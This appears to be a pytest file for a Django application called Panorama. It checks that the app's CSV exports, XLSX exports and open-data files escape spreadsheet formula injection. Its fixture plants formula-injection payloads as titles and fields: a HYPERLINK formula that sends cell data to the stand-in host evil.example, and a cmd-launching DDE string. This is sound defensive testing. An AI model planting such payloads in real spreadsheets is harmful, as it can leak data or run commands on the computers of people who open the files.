"""Every CSV and XLSX Panorama writes — exports, open data, return templates — holds no cell a
spreadsheet would run as a formula, even when a title typed into a form is one."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.db import IntegrityError, transaction
from django.urls import reverse
from openpyxl import load_workbook

from panorama.core.exports import FORMULA_STARTS

from .test_roles import SAMPLES, TABLE

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:E[+-]?\d+)?\Z", re.IGNORECASE)


def live_cells(name: str, content: bytes, content_type: str) -> list[str]:
    found = []
    if "spreadsheetml" in content_type or name.endswith(".xlsx"):
        workbook = load_workbook(io.BytesIO(content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f" or (
                        isinstance(value, str)
                        and value.startswith(FORMULA_STARTS)
                        and not NUMBER.match(value)
                    ):
                        found.append(f"{name} {sheet.title}!{cell.coordinate}: {value!r}")
        return found
    text = content.decode("utf-8-sig")
    for number, row in enumerate(csv.reader(io.StringIO(text)), start=1):
        for value in row:
            if value.startswith(FORMULA_STARTS) and not NUMBER.match(value):
                found.append(f"{name} line {number}: {value!r}")
    return found


@pytest.fixture
def planted(world):
    from panorama.finance.models import LegacySystem
    from panorama.lessons.models import Lesson
    from panorama.picture.models import Service
    from panorama.programmes.models import Programme

    Programme.objects.create(
        organisation=world.body_a, title=HOSTILE, summary="@SUM(1+1)", wlc_forecast=Decimal("-12.50")
    )
    Lesson.objects.create(
        title=HOSTILE,
        what_happened="+cmd|' /C calc'!A0",
        why="-2+3",
        recommendation="\tTabbed",
        source="assurance-review",
        organisation=world.body_a,
        date=datetime.date(2025, 6, 30),
        status="published",
        visibility="public",
    )
    LegacySystem.objects.create(
        organisation=world.body_a, name=HOSTILE, business_function="@paying", annual_run_cost=1, risk=5
    )
    Service.objects.create(slug="sss-hostile", name=HOSTILE, organisation=world.body_a)
    return world


def test_open_data_has_no_live_formula(planted):
    from panorama.picture import opendata

    files = opendata.build(base_url="http://testserver")
    programmes = files["programmes.csv"][1].decode()
    assert "'" + HOSTILE.replace('"', '""') in programmes  # escaped, not dropped
    assert "-12.5" in programmes  # a negative amount stays a number
    found = [
        c
        for name, (kind, content, _) in files.items()
        if name.endswith(".csv")
        for c in live_cells(name, content, kind)
    ]
    assert not found, found


def test_prefilled_xlsx_template_has_no_live_formula(planted, client):
    client.force_login(planted.editor_a)
    response = client.get(
        reverse(
            "returns:send-template",
            kwargs={"kind": "progress", "organisation": planted.body_a.slug, "period": "2025-26-q3"},
        )
    )
    assert response.status_code == 200
    content = response.content
    workbook = load_workbook(io.BytesIO(content))
    assert "'" + HOSTILE in [c.value for row in workbook.worksheets[0].iter_rows() for c in row]
    assert not live_cells("template.xlsx", content, response["Content-Type"])


def test_every_export_has_no_live_formula(planted, client):
    """Every GET URL in the roles table, as an analyst, plain and with ?format=csv and ?format=xlsx:
    any CSV or XLSX answer is scanned."""
    client.force_login(planted.analyst)
    scanned, found = [], []
    for url_name, row in sorted(TABLE.items()):
        if row["method"] != "GET":
            continue
        try:
            with transaction.atomic():
                kwargs = SAMPLES.get(url_name, lambda w: {})(planted)
        except IntegrityError:  # its sample object exists already, made for another URL
            continue
        url = reverse(url_name, kwargs=kwargs)
        for suffix in ("", "?format=csv", "?format=xlsx"):
            response = client.get(url + suffix)
            kind = response.get("Content-Type", "")
            if response.status_code != 200 or not ("csv" in kind or "spreadsheetml" in kind):
                continue
            content = b"".join(response.streaming_content) if response.streaming else response.content
            scanned.append(url + suffix)
            found += live_cells(url + suffix, content, kind)
    assert len(scanned) > 10, scanned
    assert not found, found
